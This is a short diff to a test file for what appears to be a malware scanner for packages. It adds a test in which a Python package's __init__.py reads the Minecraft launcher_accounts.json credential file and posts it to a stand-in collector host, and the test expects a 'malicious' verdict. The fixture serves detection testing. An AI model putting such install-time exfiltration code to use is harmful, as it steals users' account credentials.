@@ -123,3 +123,11 @@ test('copying or cloning into the Startup folder at install is persistence; crea
   });
   assert.equal(cfg.verdict, 'clean', cfg.reason);
 });
+
+test('game launcher account files are credential sources', async () => {
+  const { score } = await scan({
+    'pkg/__init__.py':
+      "import os, requests\np = os.path.join(os.path.expanduser('~'), 'AppData', 'Roaming', '.minecraft', 'launcher_accounts.json')\nrequests.post('https://collector.example.invalid/u', data=open(p).read())\n",
+  });
+  assert.equal(score.verdict, 'malicious', score.reason);
+});
